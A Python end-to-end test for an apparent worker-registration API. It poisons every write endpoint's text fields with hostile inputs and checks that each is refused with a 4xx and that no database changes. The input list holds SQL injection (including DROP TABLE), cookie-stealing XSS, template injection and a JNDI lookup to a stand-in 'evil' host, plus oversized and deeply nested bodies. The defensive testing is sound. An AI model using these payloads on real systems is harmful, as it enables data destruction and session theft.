"""Hostile input at the gateway: refused with a 4xx, and nothing changes in any database."""

import datetime as dt
import time
import uuid

import pytest
import requests
from sqlalchemy import create_engine, text

from tests.helpers import wait_for, worker_payload

pytestmark = pytest.mark.e2e

INJECTIONS = [
    "Robert'); DROP TABLE workers;--",
    "' OR '1'='1",
    "1 OR pg_sleep(10)=0",
    "Siti\u202enimA",  # right-to-left override
    "Si\u200bti",  # zero-width space
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "admin'--",
    "line\x07bell",
]
FUTURE = (dt.datetime.now(dt.UTC) + dt.timedelta(days=3)).replace(microsecond=0).isoformat()
SOME_ID = str(uuid.uuid4())

# (role, method, path, a valid body, the text fields to poison, as paths into the body)
WRITES = [
    (
        "operator",
        "POST",
        "/workers",
        worker_payload(),
        [
            "full_name",
            "occupation",
            "placement_agency",
            "address.regency",
            "address.village",
            "address.street",
        ],
    ),
    (
        "operator",
        "PATCH",
        f"/workers/{SOME_ID}",
        {"address": {"regency": "Blitar"}},
        ["address.regency"],
    ),
    (
        "operator",
        "POST",
        f"/workers/{SOME_ID}/departure",
        {"departed_on": "2026-12-01", "destination_country": "HK", "employer": "Mr Chan"},
        ["employer"],
    ),
    ("operator", "POST", f"/workers/{SOME_ID}/withdrawal", {"reason": "found work"}, ["reason"]),
    (
        "verifier",
        "POST",
        f"/workers/{SOME_ID}/documents",
        {"type": "marital_status_letter", "number": "A123", "issued_on": "2026-01-05"},
        ["number"],
    ),
    ("verifier", "POST", f"/documents/{SOME_ID}/reject", {"reason": "blurred"}, ["reason"]),
    (
        "trainer",
        "POST",
        "/orientation/sessions",
        {"starts_at": FUTURE, "location": "LTSA", "capacity": 10, "topics": ["rights"]},
        ["location", "topics.0"],
    ),
    (
        "trainer",
        "POST",
        f"/orientation/sessions/{SOME_ID}/cancellation",
        {"reason": "flood"},
        ["reason"],
    ),
    (
        "trainer",
        "POST",
        "/reintegration/programs",
        {
            "name": "PAK CAMAT",
            "audience": "both",
            "capacity": 10,
            "starts_on": "2027-01-01",
            "rounds": [{"name": "pitch", "advance": 3}],
        },
        ["name", "rounds.0.name"],
    ),
    (
        "trainer",
        "POST",
        f"/reintegration/programs/{SOME_ID}/completions",
        {
            "worker_id": SOME_ID,
            "business_started": True,
            "business_name": "Warung",
            "sector": "food",
            "regency": "Blitar",
        },
        ["business_name", "sector", "regency"],
    ),
]


def poisoned(body, path: str, value: str):
    body = __import__("copy").deepcopy(body)
    *parents, last = path.split(".")
    node = body
    for key in parents:
        node = node[int(key)] if isinstance(node, list) else node[key]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value
    return body


def fingerprint(stack) -> dict:
    """Row counts of every table of every database of the stack."""
    counts = {}
    for key, url in stack.env.items():
        if not key.endswith("_DATABASE_URL"):
            continue
        engine = create_engine(url)
        with engine.connect() as conn:
            tables = [
                r[0]
                for r in conn.execute(
                    text("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")
                )
            ]
            for table in tables:
                counts[(key, table)] = conn.execute(
                    text(f'SELECT count(*) FROM "{table}"')
                ).scalar()
        engine.dispose()
    return counts


def settled(stack, quiet_for: float = 2.0) -> dict:
    """The fingerprint once no table has changed for ``quiet_for`` seconds: the stack is shared,
    and what the tests before this one caused (events still being applied) is done first."""
    last = {"counts": fingerprint(stack), "since": time.monotonic()}

    def quiet():
        counts = fingerprint(stack)
        if counts != last["counts"]:
            last.update(counts=counts, since=time.monotonic())
            return None
        return counts if time.monotonic() - last["since"] >= quiet_for else None

    return wait_for(quiet, timeout=120, interval=0.5, message="the shared stack at rest")


def test_hostile_input_is_refused_and_changes_nothing(stack):
    before = settled(stack)
    answers = []
    for role, method, path, body, fields in WRITES:
        client = stack.client(role)
        for field in fields:
            for value in INJECTIONS:
                response = client.request(
                    method, stack.url(path), timeout=30, json=poisoned(body, field, value)
                )
                answers.append((method, path, field, value, response.status_code))
    operator = stack.client("operator")
    for nik in ["350512570394000", "35051257039400011", "35051257039400O1", "", "3" * 40]:
        response = operator.post(
            stack.url("/workers"), json={**worker_payload(), "nik": nik}, timeout=30
        )
        answers.append(("POST", "/workers", "nik", nik, response.status_code))
    huge = operator.post(
        stack.url("/workers"),
        data=b'{"full_name": "' + b"x" * 8_000_000 + b'"}',
        headers={"Content-Type": "application/json"},
        timeout=60,
    )
    answers.append(("POST", "/workers", "body", "8 MB", huge.status_code))
    deep = operator.post(
        stack.url("/workers"),
        data=b"[" * 100_000 + b"]" * 100_000,
        headers={"Content-Type": "application/json"},
        timeout=30,
    )
    answers.append(("POST", "/workers", "body", "deep", deep.status_code))
    invalid = operator.post(
        stack.url("/workers"),
        data=b'{"full_name": "\xff\xfe\xfa"}',
        headers={"Content-Type": "application/json"},
        timeout=30,
    )
    answers.append(("POST", "/workers", "body", "invalid utf-8", invalid.status_code))

    accepted = [a for a in answers if not 400 <= a[-1] < 500]
    assert accepted == []
    assert fingerprint(stack) == before
    assert requests.get(stack.url("/health"), timeout=10).status_code == 200
